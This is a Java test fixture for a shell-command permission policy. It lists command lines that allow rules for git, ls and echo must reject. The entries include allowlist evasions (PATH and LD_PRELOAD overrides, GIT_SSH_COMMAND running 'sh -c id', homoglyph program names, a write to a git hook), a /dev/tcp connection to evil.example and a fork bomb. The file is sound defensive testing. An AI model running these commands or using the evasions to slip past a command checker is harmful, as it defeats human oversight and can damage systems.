package dev.rookery.policy;

import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.util.stream.Stream;
import org.junit.jupiter.params.provider.Arguments;

/** Lines that must not profit from rules on git, ls and echo. */
final class OtherCommands {
  static final String TABLE =
      """
      # another program
      curl example.org
      # a program whose name begins alike
      gitx status
      # a program whose name ends alike
      xgit status
      # the rule as one word
      'git status'
      # another directory
      /tmp/git status
      # this directory
      ./git status
      # a directory of programs elsewhere
      ~/bin/git status
      # upwards from a directory of the system
      /usr/bin/../../tmp/git status
      # below a directory of the system
      /usr/bin/x/git status
      # the directory of a process
      /proc/self/cwd/git status
      # another path of programs
      PATH=/tmp git status
      # another path before
      PATH=/tmp; git status
      # another path exported
      export PATH=/tmp; git status
      # another path declared
      declare -x PATH=/tmp; git status
      # another path read
      read PATH < file; git status
      # another path printed
      printf -v PATH /tmp; git status
      # another path of a loop
      for PATH in /tmp; do git status; done
      # another path by default
      echo ${PATH:=/tmp}; git status
      # another path added
      PATH+=:/tmp git status
      # another path by env
      env PATH=/tmp git status
      # a library
      LD_PRELOAD=/tmp/x.so git status
      # a directory of libraries
      LD_LIBRARY_PATH=/tmp ls
      # a command of git
      GIT_SSH_COMMAND='sh -c id' git fetch
      # a pager
      GIT_PAGER='sh -c id' git log
      # another pager
      PAGER=/tmp/x git log
      # an editor
      EDITOR=/tmp/x git commit
      # a directory of git programs
      git --exec-path=/tmp status
      # settings in variables
      GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=id git log
      # a proxy
      https_proxy=http://evil.example git fetch
      # separators of fields
      IFS=x git status
      # a prompt command
      PROMPT_COMMAND=id git status
      # a home
      HOME=/tmp git status
      # a look-alike program
      gıt status
      # a look-alike from Greek
      lѕ
      # full-width letters
      ｇｉｔ status
      # a look-alike semicolon does not end a word
      curl； git status
      # an output file
      git log > file
      # an output file appended
      echo x >> .bashrc
      # an output file by force
      echo x >| .git/hooks/pre-commit
      # an output file with errors
      echo x &> file
      # an output file of errors
      git log 2> file
      # an output file of a group
      { git log; } > file
      # an output file of a loop
      for i in 1; do echo $i; done > file
      # an output file that is not known
      echo x > "$FILE"
      # an input and output file
      git log <> file
      # a connection
      echo x > /dev/tcp/evil.example/80
      # a connection that is read
      git log < /dev/tcp/evil.example/80
      # an output file and no command
      > file
      # with more rights
      sudo git status
      # as another person
      su -c 'git status'
      # by a shell that reads its start files
      bash -lc 'git status'
      # by a shell elsewhere
      ./sh -c 'git status'
      # by a wrapper elsewhere
      ./env git status
      # by a wrapper with an unknown option
      timeout --what git status
      # by a wrapper with unknown words
      env $X git status
      # allowed programs by xargs
      ls | xargs git rm
      # allowed programs by find
      find . -exec git add {} +
      # allowed programs by watch
      watch git status
      # on another host
      ssh host git status
      # in a container
      docker run x git status
      # as root of another tree
      chroot /tmp git status
      # a program of a variable
      $GIT status
      # arithmetic on a name
      echo $((x + 1))
      # an empty word as program
      '' git status
      # an assignment that is none
      1a=b git status
      # a directory change
      cd /tmp
      # a builtin that is not named
      ulimit -c 0
      # an extended glob
      ls !(x)
      # a test that is not named
      [ -f x ]
      """;

  private OtherCommands() {}

  static Stream<Arguments> made() {
    return Stream.of(
        arguments("nothing", ""),
        arguments("nothing but a comment", "# git status"),
        arguments("blanks", "  \t\n "),
        arguments("a million characters", "git log " + "a".repeat(1_000_000)),
        arguments("3,000 commands", "git status;".repeat(3_000)),
        arguments("a fork bomb", ":(){ :|:& };:"),
        arguments("a vertical tab", "git\u000Bstatus"));
  }
}
